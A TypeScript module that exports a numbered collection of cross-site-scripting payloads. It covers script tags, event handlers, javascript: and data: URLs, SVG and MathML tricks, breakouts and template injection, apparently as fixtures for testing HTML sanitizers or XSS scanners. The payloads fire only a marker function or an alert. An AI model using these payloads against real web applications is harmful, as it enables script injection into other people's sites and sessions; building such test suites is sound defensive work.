/**
 * Cross-site-scripting payloads, each numbered so a hit names its payload:
 * running code calls `__xss(n)` (or opens a dialog), injected markup carries
 * `data-xss` or an `xss-n` id. Script tags, event handlers, javascript: and
 * data: URLs, SVG and MathML tricks, attribute and element breakouts, mutation
 * XSS, JSON-LD and XML (feed) breakouts, template injection.
 */
const TEMPLATES: ((n: number) => string)[] = [
  (n) => `<script>__xss(${n})</script>`,
  (n) => `<script data-xss=${n}>alert(${n})</script>`,
  (n) => `<img src=x onerror=__xss(${n}) data-xss=${n}>`,
  (n) => `<img src="x" onerror="alert(${n})">`,
  (n) => `<svg onload=__xss(${n}) data-xss=${n}>`,
  (n) => `<svg/onload=alert(${n})>`,
  (n) => `"><script>__xss(${n})</script>`,
  (n) => `'><img src=x onerror=__xss(${n}) data-xss=${n}>`,
  (n) => `" onmouseover="__xss(${n})" data-xss="${n}`,
  (n) => `' onfocus='__xss(${n})' autofocus data-xss='${n}`,
  (n) => `javascript:__xss(${n})`,
  (n) => `JaVaScRiPt:alert(${n})`,
  (n) => ` javascript:__xss(${n})`,
  (n) => `java\tscript:__xss(${n})`,
  (n) => `data:text/html,<script>parent.__xss(${n})</script>`,
  (n) => `data:text/html;base64,${Buffer.from(`<script>parent.__xss(${n})</script>`).toString("base64")}`,
  (n) => `vbscript:msgbox(${n})`,
  (n) => `<a href="javascript:__xss(${n})" data-xss=${n}>click</a>`,
  (n) => `<a href="jav&#x09;ascript:__xss(${n})" id="xss-${n}">click</a>`,
  (n) => `<iframe src="javascript:__xss(${n})" data-xss=${n}></iframe>`,
  (n) => `<iframe srcdoc="<script>parent.__xss(${n})</script>" data-xss=${n}></iframe>`,
  (n) => `<svg><script>__xss(${n})</script></svg>`,
  (n) => `<svg><a xlink:href="javascript:__xss(${n})"><text x="20" y="20" id="xss-${n}">x</text></a></svg>`,
  (n) => `<svg><animate onbegin=__xss(${n}) attributeName=x dur=1s data-xss=${n}>`,
  (n) => `<svg><foreignObject><iframe srcdoc="<script>parent.__xss(${n})</script>"></iframe></foreignObject></svg>`,
  (n) => `<math><mtext><table><mglyph><style><img src=x onerror=__xss(${n}) data-xss=${n}>`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=__xss(${n}) data-xss=${n}>">`,
  (n) => `<!--<img src="--><img src=x onerror=__xss(${n}) data-xss=${n}//">`,
  (n) => `</script><script>__xss(${n})</script>`,
  (n) => `</title><script>__xss(${n})</script>`,
  (n) => `</textarea><script>__xss(${n})</script>`,
  (n) => `<body onload=__xss(${n})>`,
  (n) => `<details open ontoggle=__xss(${n}) data-xss=${n}>`,
  (n) => `<input autofocus onfocus=__xss(${n}) data-xss=${n}>`,
  (n) => `<select autofocus onfocus=alert(${n})>`,
  (n) => `<video><source onerror=__xss(${n}) data-xss=${n}></video>`,
  (n) => `<audio src=x onerror=__xss(${n}) data-xss=${n}>`,
  (n) => `<object data="javascript:__xss(${n})" data-xss=${n}></object>`,
  (n) => `<embed src="data:text/html,<script>parent.__xss(${n})</script>" data-xss=${n}>`,
  (n) => `<form action="javascript:__xss(${n})" data-xss=${n}><button>go</button></form>`,
  (n) => `<button formaction="javascript:__xss(${n})" data-xss=${n}>go</button>`,
  (n) => `<base href="javascript:__xss(${n})//" data-xss=${n}>`,
  (n) => `<meta http-equiv="refresh" content="0;url=javascript:__xss(${n})" data-xss=${n}>`,
  (n) => `<link rel=stylesheet href="javascript:__xss(${n})" data-xss=${n}>`,
  (n) => `<div style="background:url(javascript:__xss(${n}))" data-xss=${n}>x</div>`,
  (n) => `<style>@import 'javascript:__xss(${n})';</style><b id="xss-${n}">`,
  (n) => `<template><script>__xss(${n})</script></template><i data-xss=${n}>`,
  (n) => `<scr<script>ipt>__xss(${n})</scr</script>ipt>`,
  (n) => `<IMG SRC=JaVaScRiPt:__xss(${n}) data-xss=${n}>`,
  (n) => `<img src=x onerror="&#95;&#95;xss(${n})" data-xss=${n}>`,
  (n) => `&lt;script&gt;__xss(${n})&lt;/script&gt;`,
  (n) => `\u003cscript\u003e__xss(${n})\u003c/script\u003e`,
  (n) => `{{constructor.constructor('__xss(${n})')()}}`,
  (n) => `\${__xss(${n})}`,
  (n) => `<xss id="xss-${n}" data-xss=${n}>marker</xss>`,
  (n) => `]]><script>__xss(${n})</script><![CDATA[`,
  (n) => `<![CDATA[<script>__xss(${n})</script>]]>`,
  (n) => `<html:script xmlns:html="http://www.w3.org/1999/xhtml">__xss(${n})</html:script>`,
  (n) => `<?xml-stylesheet type="text/xsl" href="data:,__xss(${n})"?>`,
  (n) => `<marquee onstart=__xss(${n}) data-xss=${n}>x</marquee>`,
  (n) => `https://example.com/"><script>__xss(${n})</script>`,
  (n) => `https://example.com/?q=<img src=x onerror=__xss(${n}) data-xss=${n}>`,
  (n) => `https://example.com/#" onmouseover="__xss(${n})`,
  (n) => `http://example.com/'onerror='__xss(${n})`,
];

export interface XssPayload {
  n: number;
  text: string;
}

/** The payloads, numbered from 1. */
export const XSS_PAYLOADS: XssPayload[] = TEMPLATES.map((t, i) => ({ n: i + 1, text: t(i + 1) }));
